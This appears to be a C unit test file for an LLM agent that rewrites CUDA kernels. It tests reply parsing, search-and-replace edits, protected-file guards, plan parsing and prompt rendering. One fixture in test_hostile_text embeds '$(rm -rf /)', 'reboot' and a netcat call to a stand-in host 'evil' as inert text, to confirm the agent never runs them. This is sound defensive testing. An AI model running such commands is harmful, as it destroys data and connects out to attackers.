/* The agent's reply parsing against adversarial replies, grounded edits, plan parsing and
 * prompt rendering (no LLM, no GPU). */
#include <math.h>
#include <stdlib.h>
#include <string.h>

#include "kopt/agent.h"
#include "ktest.h"

static const char *PARENT =
    "extern \"C\" __global__ void k(float *y, int n)\n"
    "{\n"
    "    int i = blockIdx.x * blockDim.x + threadIdx.x;\n"
    "    if (i < n)\n"
    "        y[i] = 1.0f;\n"
    "}\n";

static const kopt_agent_guard GUARD = {"problem.json", "reference.cu", NULL};

static kopt_agent_failure extract(const char *reply, char **out)
{
    char why[512];
    return kopt_agent_extract_code(reply, PARENT, &GUARD, out, why, sizeof(why));
}

static void test_fenced_with_prose(void)
{
    char *out = NULL;
    CHECK_EQ_INT(extract("Sure! Here it is:\n\n```cuda\n__global__ void k2() {}\n```\n\nThis is "
                         "faster because...", &out), KOPT_AGENT_OK);
    CHECK_EQ_STR(out, "__global__ void k2() {}\n");
    free(out);
}

static void test_several_blocks_longest_kernel(void)
{
    char *out = NULL;
    const char *r = "First the idea:\n```\nthreads = 256\n```\nA sketch:\n```cuda\n__global__ "
                    "void a() {}\n```\nThe full file:\n```cpp\n#include <x>\n__global__ void "
                    "b(float *y) { y[0] = 1; }\n```\nDone.";
    CHECK_EQ_INT(extract(r, &out), KOPT_AGENT_OK);
    CHECK_STR_CONTAINS(out, "void b(");
    free(out);
}

static void test_no_code_and_unterminated(void)
{
    char *out = NULL, why[256];
    CHECK_EQ_INT(extract("I think you should use shared memory.", &out), KOPT_AGENT_NO_CODE);
    CHECK(out == NULL);
    CHECK_EQ_INT(kopt_agent_extract_code("```cuda\n__global__ void k() {\n", PARENT, &GUARD,
                                         &out, why, sizeof(why)), KOPT_AGENT_NO_CODE);
    CHECK_STR_CONTAINS(why, "not closed");
    CHECK_EQ_INT(extract("", &out), KOPT_AGENT_NO_REPLY);
    CHECK_EQ_INT(extract(NULL, &out), KOPT_AGENT_NO_REPLY);
    /* a block with no kernel in it is not a candidate */
    CHECK_EQ_INT(extract("```json\n{\"sizes\": {}}\n```", &out), KOPT_AGENT_NO_CODE);
}

static void test_bare_code(void)
{
    char *out = NULL;
    CHECK_EQ_INT(extract("#include <cuda.h>\n__global__ void k3() {}\n", &out), KOPT_AGENT_OK);
    CHECK_STR_CONTAINS(out, "k3");
    free(out);
}

static void test_forbidden(void)
{
    char *out = NULL, why[256];
    CHECK_EQ_INT(extract("File reference.cu:\n```cuda\n__global__ void softmax_ref() {}\n```",
                         &out), KOPT_AGENT_FORBIDDEN);
    CHECK_EQ_INT(kopt_agent_extract_code("```cuda reference.cu\n__global__ void r() {}\n```",
                                         PARENT, &GUARD, &out, why, sizeof(why)),
                 KOPT_AGENT_FORBIDDEN);
    CHECK_STR_CONTAINS(why, "reference.cu");
    CHECK_EQ_INT(extract("problem.json\n<<<<<<< SEARCH\n        y[i] = 1.0f;\n=======\n        "
                         "y[i] = 2.0f;\n>>>>>>> REPLACE\n", &out), KOPT_AGENT_FORBIDDEN);
    /* a file whose name merely contains the protected name is not it */
    CHECK_EQ_INT(extract("my_reference.cu2:\n```cuda\n__global__ void z() {}\n```", &out),
                 KOPT_AGENT_OK);
    free(out);
}

static void test_edits_apply(void)
{
    char *out = NULL;
    const char *r = "Change the value:\n<<<<<<< SEARCH\n        y[i] = 1.0f;\n=======\n        "
                    "y[i] = 2.0f;\n>>>>>>> REPLACE\nand the guard:\n<<<<<<< SEARCH\n    if (i < n)"
                    "\n=======\n    if (i < n && i >= 0)\n>>>>>>> REPLACE\n";
    CHECK_EQ_INT(extract(r, &out), KOPT_AGENT_OK);
    CHECK_STR_CONTAINS(out, "y[i] = 2.0f;\n");
    CHECK_STR_CONTAINS(out, "if (i < n && i >= 0)\n        y[i]");
    CHECK(strstr(out, "1.0f") == NULL);
    CHECK_STR_CONTAINS(out, "__global__ void k(float *y, int n)\n{\n");
    free(out);
}

static void test_edit_failures(void)
{
    char *out = NULL, why[256];
    CHECK_EQ_INT(kopt_agent_extract_code("<<<<<<< SEARCH\n  y[i] = 3.0f;\n=======\nx\n>>>>>>> "
                                         "REPLACE\n", PARENT, &GUARD, &out, why, sizeof(why)),
                 KOPT_AGENT_EDIT_NOT_FOUND);
    CHECK_STR_CONTAINS(why, "block 1");
    CHECK(out == NULL);
    CHECK_EQ_INT(extract("<<<<<<< SEARCH\n    \n=======\nx\n>>>>>>> REPLACE\n", &out),
                 KOPT_AGENT_EDIT_AMBIGUOUS);
    CHECK_EQ_INT(extract("<<<<<<< SEARCH\n        y[i] = 1.0f;\n>>>>>>> REPLACE\n", &out),
                 KOPT_AGENT_EDIT_MALFORMED);
    CHECK_EQ_INT(extract("<<<<<<< SEARCH\n        y[i] = 1.0f;\n=======\n        y[i] = 2.0f;\n",
                         &out), KOPT_AGENT_EDIT_MALFORMED);
    CHECK_EQ_INT(extract("<<<<<<< SEARCH\n=======\nx\n>>>>>>> REPLACE\n", &out),
                 KOPT_AGENT_EDIT_MALFORMED);
    /* an edit that removes the kernel, and one that changes nothing */
    CHECK_EQ_INT(extract("<<<<<<< SEARCH\nextern \"C\" __global__ void k(float *y, int n)\n=======\n"
                         "void k(float *y, int n)\n>>>>>>> REPLACE\n", &out), KOPT_AGENT_NO_CODE);
    CHECK_EQ_INT(extract("<<<<<<< SEARCH\n        y[i] = 1.0f;\n=======\n        y[i] = 1.0f;\n"
                         ">>>>>>> REPLACE\n", &out), KOPT_AGENT_UNCHANGED);
    CHECK_EQ_INT(extract("```cuda\n" "extern \"C\" __global__ void k(float *y, int n)\n{\n    int i "
                         "= blockIdx.x * blockDim.x + threadIdx.x;\n    if (i < n)\n        y[i] = "
                         "1.0f;\n}\n```", &out), KOPT_AGENT_UNCHANGED);
}

static void test_hostile_text(void)
{
    char *out = NULL, big_reply[300 * 1024 + 64];
    /* shell metacharacters are just text in a kernel: never run, kept as they are */
    CHECK_EQ_INT(extract("```cuda\n// $(rm -rf /) `reboot`; | nc evil 1\n__global__ void k() {}\n"
                         "```", &out), KOPT_AGENT_OK);
    CHECK_STR_CONTAINS(out, "$(rm -rf /)");
    free(out);
    out = NULL;
    memcpy(big_reply, "```cuda\n__global__ void k() {}\n", 31);
    memset(big_reply + 31, 'x', sizeof(big_reply) - 31 - 6);
    memcpy(big_reply + sizeof(big_reply) - 6, "\n```\n", 6);
    CHECK_EQ_INT(extract(big_reply, &out), KOPT_AGENT_TOO_LARGE);
    CHECK(out == NULL);
    /* a fence closed only inside a line is not closed */
    CHECK_EQ_INT(extract("```cuda\n__global__ void k() { const char *s = \"```\"; }", &out),
                 KOPT_AGENT_NO_CODE);
}

static void test_plan(void)
{
    kopt_agent_plan p;
    CHECK_EQ_INT(kopt_agent_parse_plan("Thinking...\n\n**PLAN:** tile the rows in shared memory\n"
                                       "  and keep them there\n**KIND:** Shared Memory\n- TOOL: "
                                       "smem_tiling\nGAIN: 1.8x\n", &p), KOPT_AGENT_OK);
    CHECK_EQ_STR(p.text, "tile the rows in shared memory\n  and keep them there");
    CHECK_EQ_STR(p.kind, "shared-memory");
    CHECK_EQ_STR(p.tool, "smem_tiling");
    CHECK_NEAR(p.gain, 1.8, 1e-9);
    CHECK_EQ_INT(kopt_agent_parse_plan("plan: vectorize\ntool: none\ngain: 9999", &p),
                 KOPT_AGENT_OK);
    CHECK_EQ_STR(p.tool, "");
    CHECK_NEAR(p.gain, 0.0, 0.0);
    CHECK_EQ_STR(p.kind, "other");
    CHECK_EQ_INT(kopt_agent_parse_plan("Use float4 loads.\n\nMore text.", &p), KOPT_AGENT_OK);
    CHECK_EQ_STR(p.text, "Use float4 loads.");
    CHECK_EQ_INT(kopt_agent_parse_plan("", &p), KOPT_AGENT_NO_REPLY);
    CHECK_EQ_INT(kopt_agent_parse_plan("```\n```", &p), KOPT_AGENT_NO_REPLY);
}

static void test_render(void)
{
    kopt_agent_var v[] = {{"a", "A{{b}}"}, {"b", "B"}, {"nul", NULL}};
    char *r = kopt_agent_render("x {{a}} y {{b}} z {{unknown}} {{nul}}| {{", v, 3);
    CHECK_EQ_STR(r, "x A{{b}} y B z {{unknown}} | {{");   /* values are never expanded */
    free(r);
}

static void test_prompts_found(void)
{
    kopt_ctx *ctx = kopt_ctx_new();
    char *dir = NULL, *t = NULL;
    setenv("KOPT_PROMPTS", KOPT_TEST_DATA_DIR "/../../prompts", 1);
    CHECK_EQ_INT(kopt_agent_prompts_dir(ctx, &dir), KOPT_OK);
    for (int r = 0; r < KOPT_AGENT_ROLE_COUNT; r++) {
        CHECK_EQ_INT(kopt_agent_prompt_load(ctx, dir, (kopt_agent_role)r, &t), KOPT_OK);
        CHECK(t && strlen(t) > 100);
        free(t);
        t = NULL;
    }
    setenv("KOPT_PROMPTS", "/nonexistent-kopt-prompts", 1);
    free(dir);
    dir = NULL;
    CHECK_EQ_INT(kopt_agent_prompts_dir(ctx, &dir), KOPT_E_NOT_FOUND);
    unsetenv("KOPT_PROMPTS");
    free(dir);
    kopt_ctx_free(ctx);
}

/* Search requests: several blocks and lines, other fences ignored, the cap, hostile text. */
static void test_searches(void)
{
    char **q = NULL;
    const char *r = "Let me check.\n```cute-search\nmake_tma_copy\n\n  TMA load multicast  \n```\n"
                    "and also\n```cuda\n__global__ void k() {}\n```\n```cute-search\nTiledMMA\n```";
    int n = kopt_agent_parse_searches(r, 8, &q);
    CHECK_EQ_INT(n, 3);
    CHECK_EQ_STR(q[0], "make_tma_copy");
    CHECK_EQ_STR(q[1], "TMA load multicast");
    CHECK_EQ_STR(q[2], "TiledMMA");
    kopt_agent_queries_free(q, 3);
    /* more than the cap: all counted, the first two kept */
    CHECK_EQ_INT(kopt_agent_parse_searches(r, 2, &q), 3);
    CHECK_EQ_STR(q[1], "TMA load multicast");
    kopt_agent_queries_free(q, 2);
    /* no search block (a fence not at a line start, an info string that only begins
     * with the name, an empty block): none */
    CHECK_EQ_INT(kopt_agent_parse_searches("text ```cute-search\nx\n```\n```cute-searching\n"
                                           "y\n```\n```cute-search\n```\n", 4, &q), 0);
    kopt_agent_queries_free(q, 0);
    CHECK_EQ_INT(kopt_agent_parse_searches(NULL, 4, &q), 0);
    kopt_agent_queries_free(q, 0);
    /* an unterminated block runs to the end; a long query is cut */
    {
        char big[600];
        memset(big, 'a', sizeof(big) - 1);
        big[sizeof(big) - 1] = 0;
        char *text = malloc(700);
        snprintf(text, 700, "```cute-search\n%s", big);
        CHECK_EQ_INT(kopt_agent_parse_searches(text, 4, &q), 1);
        CHECK_EQ_INT((int)strlen(q[0]), KOPT_AGENT_MAX_QUERY);
        kopt_agent_queries_free(q, 1);
        free(text);
    }
    /* the failure of a reply that searches past the bound has its name */
    CHECK_EQ_STR(kopt_agent_failure_name(KOPT_AGENT_SEARCH_LIMIT), "search_limit");
}

int main(int argc, char **argv)
{
    static const ktest_case cases[] = {
        KTEST(test_fenced_with_prose), KTEST(test_several_blocks_longest_kernel),
        KTEST(test_no_code_and_unterminated), KTEST(test_bare_code), KTEST(test_forbidden),
        KTEST(test_edits_apply), KTEST(test_edit_failures), KTEST(test_hostile_text),
        KTEST(test_plan), KTEST(test_render), KTEST(test_prompts_found),
        KTEST(test_searches)};
    return ktest_main(argc, argv, cases, KTEST_COUNT(cases));
}
